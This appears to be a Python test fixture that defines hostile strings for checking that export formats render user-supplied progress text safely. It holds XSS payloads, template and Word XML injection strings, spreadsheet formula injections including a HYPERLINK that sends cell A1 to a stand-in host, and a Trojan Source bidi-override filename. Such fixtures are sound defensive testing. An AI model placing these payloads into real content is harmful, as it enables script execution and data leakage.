"""Hostile and awkward progress text (docs/reliability.md R1-R4): every format must carry it harmlessly."""

from __future__ import annotations

SCRIPT = '<script>alert(1)</script> and "><img src=x onerror=alert(1)>'
STYLE_BREAK = "</style><script>alert(2)</script>"
TEMPLATE = "{{7*7}} {% raw %}"
BUDGET = "Budget < 5% & rising"
WORD_XML = "</w:t></w:r></w:p><w:p><w:r><w:t>INJECTED"
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"x")'
FORMULAS = ("+1+1", "-2+3", "@SUM(1)", "\t=1", "  =1")
EMOJI = "Launched 👍🏽 with the staff network 🎉"
ARABIC = "تم إطلاق الشبكة"
HEBREW = "הרשת הושקה"
BIDI_OVERRIDE = "Invoice \u202egnp.exe"  # Trojan Source: displays reversed without the control removed
CONTROL = "Bell\x07 vtab\x0b formfeed\x0c end"  # NUL too, but PostgreSQL never stores one: see test_formats
LONG = ("The working group met eleven times this period and agreed the terms of reference. " * 250)[:20000]

NARRATIVE = "\n".join(
    [SCRIPT, STYLE_BREAK, TEMPLATE, BUDGET, WORD_XML, EMOJI, ARABIC, HEBREW, BIDI_OVERRIDE, CONTROL]
)
